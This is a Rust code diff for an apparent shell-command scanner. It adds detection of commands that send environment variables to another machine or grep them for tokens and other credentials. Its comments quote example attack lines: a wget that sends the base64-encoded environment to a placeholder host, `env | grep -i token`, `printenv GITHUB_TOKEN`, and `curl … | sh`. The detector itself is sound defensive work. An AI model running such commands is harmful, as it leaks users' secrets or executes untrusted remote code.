@@ -254,6 +254,37 @@ pub fn check_environment_sent(line: &str) -> Option<Finding> {
                 .iter()
                 .chain(&c.reads)
                 .any(|a| super::secrets::is_environment_file(a));
+        // The environment given to a sender inside its words: `wget "http://x/$(env |
+        // base64)"`.
+        if SENDERS.contains(&name.as_str()) && c.substitutions.iter().any(reads_environment) {
+            return Some(finding(
+                Severity::Warn,
+                "secret_read",
+                "sends an environment, and the tokens it holds, to another machine inside a \
+                 request",
+                &c.argv,
+            ));
+        }
+        // The environment filtered for its credentials (`env | grep -i token`): printed,
+        // as `printenv GITHUB_TOKEN` prints one.
+        let picked = whole_env
+            && cmds[i + 1..]
+                .iter()
+                .take_while(|d| d.pipeline == c.pipeline)
+                .any(|d| {
+                    d.argv
+                        .first()
+                        .is_some_and(|p| basename(p).ends_with("grep"))
+                        && d.argv[1..].iter().any(|a| names_credential(a))
+                });
+        if picked {
+            return Some(finding(
+                Severity::Warn,
+                "secret_read",
+                "prints the environment's credentials (the variables it picks out)",
+                &c.argv,
+            ));
+        }
         let sent = whole_env
             && cmds[i + 1..]
                 .iter()
@@ -274,6 +305,31 @@ pub fn check_environment_sent(line: &str) -> Option<Finding> {
             )
         })
     })
+}
+
+/// Whether a command (or one inside it) reads a whole environment: `env`, `printenv`,
+/// `set`, `/proc/…/environ`, a `.env` file.
+fn reads_environment(c: &lex::Simple) -> bool {
+    let name = c.argv.first().map(|p| basename(p)).unwrap_or_default();
+    (matches!(
+        name.as_str(),
+        "env" | "printenv" | "export" | "set" | "declare"
+    ) && c.argv[1..].iter().all(|a| a.starts_with('-')))
+        || c.argv
+            .iter()
+            .skip(1)
+            .chain(&c.reads)
+            .any(|a| super::secrets::is_environment_file(a))
+        || c.substitutions.iter().any(reads_environment)
+}
+
+/// Whether a `grep` pattern picks out credentials (`token`, `secret`, `key`, `pass`).
+fn names_credential(pattern: &str) -> bool {
+    let p = pattern.to_ascii_lowercase();
+    !p.starts_with('-')
+        && ["token", "secret", "key", "pass", "credential", "auth"]
+            .iter()
+            .any(|w| p.contains(w))
 }
 
 /// `curl … | sh`, `sh -c "$(curl …)"`, `bash <(wget …)`, `eval "$(curl …)"`.
